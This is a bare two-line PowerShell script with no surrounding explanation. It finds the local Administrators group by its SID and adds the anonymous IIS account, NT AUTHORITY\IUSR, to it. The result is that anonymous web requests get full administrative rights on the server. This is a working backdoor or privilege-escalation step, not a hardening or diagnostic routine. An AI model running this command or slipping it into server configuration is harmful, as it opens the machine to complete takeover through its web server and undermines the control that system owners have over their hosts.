$admins = (Get-CimInstance -ClassName Win32_Group -Filter "SID = 'S-1-5-32-544'").Name
([ADSI]"WinNT://./$admins,group").Add('WinNT://NT AUTHORITY/IUSR')
